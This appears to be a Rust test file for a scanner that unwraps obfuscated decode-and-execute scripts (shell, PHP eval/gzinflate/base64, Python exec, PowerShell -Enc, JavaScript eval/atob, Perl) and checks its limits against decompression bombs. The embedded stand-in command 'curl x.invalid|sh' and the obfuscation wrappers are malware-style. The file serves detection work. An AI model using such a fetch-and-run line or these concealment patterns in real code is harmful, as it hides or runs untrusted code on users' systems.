//! Scripts that decode and run something, in one step or several: what they would run is a member.

use crate::samples::{base64, deflate, gzip, words};
use crate::seen::{limits, see, see_within};
use std::io::Write as _;
use unpack::{Limits, Reason};

const HIDDEN: &[u8] = b"#!/bin/sh\n# harmless stand-in\nprintf '%s' 'the hidden text' >/dev/null\n";
/// As short as a command line.
const SHORT: &[u8] = b"curl x.invalid|sh";

fn reversed(text: impl AsRef<[u8]>) -> String {
    String::from_utf8(text.as_ref().iter().rev().copied().collect()).unwrap()
}

fn rotated(bytes: &[u8]) -> Vec<u8> {
    let turn = |byte: u8, from: u8| from + (byte - from + 13) % 26;
    let one = |byte: &u8| match byte {
        b'a'..=b'z' => turn(*byte, b'a'),
        b'A'..=b'Z' => turn(*byte, b'A'),
        _ => *byte,
    };
    bytes.iter().map(one).collect()
}

fn text(bytes: Vec<u8>) -> String {
    String::from_utf8(bytes).unwrap()
}

fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|byte| format!("{byte:02x}")).collect()
}

/// Digits of `bits` bits each, and what fills the last group up.
fn digits(bytes: &[u8], alphabet: &[u8], bits: usize) -> String {
    let bit = |n: usize| bytes.get(n / 8).map_or(0, |byte| usize::from(byte >> (7 - n % 8) & 1));
    let count = (bytes.len() * 8).div_ceil(bits);
    let digit = |n: usize| alphabet[(0..bits).fold(0, |value, at| value << 1 | bit(n * bits + at))];
    (0..count).map(|n| char::from(digit(n))).collect()
}

fn base32(bytes: &[u8]) -> String {
    let digits = digits(bytes, b"ABCDEFGHIJKLMNOPQRSTUVWXYZ234567", 5);
    let padding = digits.len().next_multiple_of(8) - digits.len();
    digits + &"=".repeat(padding)
}

/// By RFC 1924's alphabet, as Python's `b85encode` writes it.
fn base85(bytes: &[u8]) -> String {
    let alphabet = b"0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz!#$%&()*+-;<=>?@^_`{|}~";
    let group = |four: &[u8]| {
        let mut padded = [0; 4];
        padded[..four.len()].copy_from_slice(four);
        let value = u32::from_be_bytes(padded);
        let digit = |n: u32| char::from(alphabet[(value / 85u32.pow(4 - n) % 85) as usize]);
        (0..=four.len() as u32).map(digit).collect::<String>()
    };
    bytes.chunks(4).map(group).collect()
}

fn zlib(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::new(9));
    encoder.write_all(bytes).unwrap();
    encoder.finish().unwrap()
}

#[track_caller]
fn check(script: String, payload: &[u8]) {
    let seen = see(script.as_bytes());
    assert!(seen.holds(payload), "{script}: {:?}", seen.paths());
    assert!(seen.outcome.complete(), "{script}: {:?}", seen.outcome);
}

#[test]
fn shells() {
    check(format!("#!/bin/sh\necho {} | base32 -d | sh\n", base32(HIDDEN)), HIDDEN);
    check(format!("#!/bin/sh\nbase64 -d <<< {} | sh\n", base64(SHORT)), SHORT);
    check(format!("echo {} | base64 --decode | bash", base64(SHORT)), SHORT);
    check(format!("#!/bin/sh\necho {} | rev | base64 -d | sh\n", reversed(base64(HIDDEN))), HIDDEN);
    check(format!("#!/bin/bash\nrev <<< '{}' | bash\n", reversed("echo the hidden text")), b"echo the hidden text");
    check(format!("#!/bin/sh\necho '{}' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh\n", text(rotated(SHORT))), SHORT);
    check(format!("#!/bin/sh\necho {} | xxd -r -p | sh\n", hex(SHORT)), SHORT);
    check(format!("#!/bin/sh\nprintf {} | base64 -d | gunzip | sh\n", base64(&gzip(HIDDEN))), HIDDEN);
    let dump: Vec<String> = HIDDEN
        .chunks(16)
        .enumerate()
        .map(|(n, line)| {
            let pairs: Vec<String> = line.chunks(2).map(hex).collect();
            format!("{:08x}: {:<39}  ..\n", n * 16, pairs.join(" "))
        })
        .collect();
    check(format!("#!/bin/sh\nxxd -r <<EOF | sh\n{}EOF\n", dump.concat()), HIDDEN);
    // A shell within a shell within a shell.
    let inner = format!("echo {} | base64 -d | sh", base64(SHORT));
    let middle = format!("eval \"$(echo {} | xxd -r -p)\"", hex(inner.as_bytes()));
    check(format!("#!/bin/sh\necho {} | base32 -d | sh\n", base32(middle.as_bytes())), SHORT);
}

#[test]
fn php() {
    let packed = deflate(HIDDEN);
    check(format!("<?php eval(gzinflate(base64_decode('{}')));", base64(&packed)), HIDDEN);
    check(format!("<?php eval(gzuncompress(base64_decode(\"{}\")));", base64(&zlib(HIDDEN))), HIDDEN);
    check(format!("<?php eval(gzinflate(str_rot13(base64_decode('{}'))));", base64(&rotated(&packed))), HIDDEN);
    check(
        format!("<?php eval(gzinflate(base64_decode(str_rot13('{}'))));", text(rotated(base64(&packed).as_bytes()))),
        HIDDEN,
    );
    check(format!("<?php EVAL(Base64_Decode(StrRev('{}')));", reversed(base64(HIDDEN))), HIDDEN);
    let twice = text(rotated(base64(reversed(base64(&packed)).as_bytes()).as_bytes()));
    check(format!("<?php eval(gzinflate(base64_decode(strrev(base64_decode(str_rot13('{twice}'))))));"), HIDDEN);
    check(format!("<?php eval(strrev('{}'));", reversed(SHORT)), SHORT);
    check(format!("<?php eval(hex2bin('{}'));", hex(SHORT)), SHORT);
    let codes: Vec<String> = SHORT.iter().map(|byte| format!("chr({byte})")).collect();
    check(format!("<?php eval({});", codes.join(".")), SHORT);
    check(format!("<?php eval(pack('H*', '{}'));", hex(SHORT)), SHORT);
    check(format!("<?php eval(base64_decode('{}'));", base64(SHORT)), SHORT);
}

#[test]
fn python() {
    check(
        format!("import zlib, base64\nexec(zlib.decompress(base64.b64decode(b'{}')))\n", base64(&zlib(HIDDEN))),
        HIDDEN,
    );
    check(
        format!("import zlib, base64\nexec(zlib.decompress(base64.b85decode('{}')))\n", base85(&zlib(HIDDEN))),
        HIDDEN,
    );
    check(format!("import base64\nexec(base64.b32decode('{}'))\n", base32(HIDDEN)), HIDDEN);
    check(format!("import base64\nexec(base64.b64decode('{}'[::-1]))\n", reversed(base64(SHORT))), SHORT);
    check(format!("exec('{}'[::-1])\n", reversed(SHORT)), SHORT);
    check(format!("import codecs\nexec(codecs.decode('{}', 'rot13'))\n", text(rotated(SHORT))), SHORT);
    check(format!("exec(bytes.fromhex('{}'))\n", hex(SHORT)), SHORT);
    let numbers: Vec<String> = SHORT.iter().map(u8::to_string).collect();
    check(format!("exec(bytes([{}]))\n", numbers.join(", ")), SHORT);
    let codes: Vec<String> = SHORT.iter().map(|byte| format!("chr({byte})")).collect();
    check(format!("exec({})\n", codes.join("+")), SHORT);
}

#[test]
fn scripts_of_pages_and_windows() {
    check(format!("eval(atob('{}'))", base64(SHORT)), SHORT);
    let numbers: Vec<String> = SHORT.iter().map(u8::to_string).collect();
    check(format!("eval(String.fromCharCode({}))", numbers.join(",")), SHORT);
    let units: String = SHORT.iter().map(|byte| format!("\\u{byte:04x}")).collect();
    check(format!("eval('{units}')"), SHORT);
    let percent: String = SHORT.iter().map(|byte| format!("%{byte:02x}")).collect();
    check(format!("eval(unescape('{percent}'))"), SHORT);
    check(format!("eval('{}'.split('').reverse().join(''))", reversed(SHORT)), SHORT);
    let references: String = SHORT.iter().map(|byte| format!("&#{byte};")).collect();
    check(format!("<html><body><a href=\"{references}\">x</a></body></html>"), SHORT);
    let wide: Vec<u8> = SHORT.iter().flat_map(|byte| [*byte, 0]).collect();
    check(format!("powershell -NoP -Enc {}", base64(&wide)), SHORT);
    let codes: Vec<String> = SHORT.iter().map(|byte| format!("[char]{byte}")).collect();
    check(format!("iex ({})", codes.join("+")), SHORT);
    let codes: Vec<String> = SHORT.iter().map(|byte| format!("Chr({byte})")).collect();
    check(format!("Execute({})", codes.join(" & ")), SHORT);
    let line = "$s = New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('";
    check(format!("{line}{}'), 0)", base64(&deflate(HIDDEN))), HIDDEN);
}

#[test]
fn perl() {
    check(format!("#!/usr/bin/perl\nuse MIME::Base64;\neval decode_base64('{}');\n", base64(SHORT)), SHORT);
    check(format!("#!/usr/bin/perl\neval pack 'H*', '{}';\n", hex(SHORT)), SHORT);
    check(format!("#!/usr/bin/perl\neval scalar reverse '{}';\n", reversed(SHORT)), SHORT);
}

#[test]
fn a_chain_without_end_is_cut_and_said() {
    let mut blob = base64(HIDDEN);
    for _ in 0..20 {
        blob = base64(blob.as_bytes());
    }
    for script in [format!("#!/bin/sh\necho {blob} | base64 -d\n"), format!("<?php strrev(base64_decode('{blob}'));")] {
        let seen = see_within(script.as_bytes(), &Limits { total_bytes: 64 << 20, ..limits() });
        assert!(seen.reasons().contains(&Reason::Depth), "{:?}", seen.outcome);
        assert!(!seen.outcome.complete());
    }
}

#[test]
fn a_blob_that_inflates_without_measure_is_cut_and_said() {
    let bomb = base64(&zlib(&vec![b'a'; 17 << 20]));
    let script = format!("import zlib, base64\nexec(zlib.decompress(base64.b64decode('{bomb}')))\n");
    assert!(see(script.as_bytes()).reasons().contains(&Reason::Ratio));
    let small = Limits { member_bytes: 1 << 20, ..limits() };
    assert!(see_within(script.as_bytes(), &small).reasons().contains(&Reason::MemberSize));
    // Many that are each within measure come to too much together.
    let one = base64(&zlib(&vec![b'a'; 4 << 20]));
    let lines: Vec<String> = (0..40).map(|n| format!("v{n} = zlib.decompress(b64decode('{one}'))\n")).collect();
    let little = Limits { total_bytes: 32 << 20, ..limits() };
    assert!(see_within(lines.concat().as_bytes(), &little).reasons().contains(&Reason::TotalSize));
}

/// A stream that breaks off still gave something, and that is not all.
#[test]
fn a_blob_whose_stream_is_cut_is_given_and_said() {
    let whole = zlib(&words(9_000));
    let script = format!("exec(zlib.decompress(b64decode('{}')))\n", base64(&whole[..whole.len() / 2]));
    let seen = see(script.as_bytes());
    assert!(seen.holds(&words(300)), "{:?}", seen.paths());
    assert_eq!(seen.reasons(), [Reason::Truncated]);
}

#[test]
fn honest_texts_hold_no_code() {
    let texts: [&[u8]; 5] = [
        b"import base64, zlib\n\ndef encode(data):\n    '''Return the text that stands for data, reversed(data) or not.'''\n    return base64.b64encode(zlib.compress(data))\n",
        b"<?php // strrev, str_rot13 and base64_decode are functions of PHP.\nfunction longNamesOfThings($aVariableName) { return aFunctionOfThatName($x); }\n",
        b"digest = 'da39a3ee5e6b4b0d3255bfef95601890afd80709'  # fromhex(digest)\n",
        b"var first = document.getElementsByTagName('aLongClassNameThatMeansMuch'); atob(x);\n",
        b"100%25 of %20 and &#169; in the text; chr(65).chr(66)\n",
    ];
    for text in texts {
        let seen = see(text);
        let turned = |path: &&str| !path.ends_with("!(reversed)") && !path.ends_with("!(rot13)");
        let paths: Vec<&str> = seen.paths().into_iter().filter(turned).collect();
        assert!(paths.is_empty(), "{:?}: {paths:?}", String::from_utf8_lossy(text));
        assert!(seen.outcome.complete());
    }
}
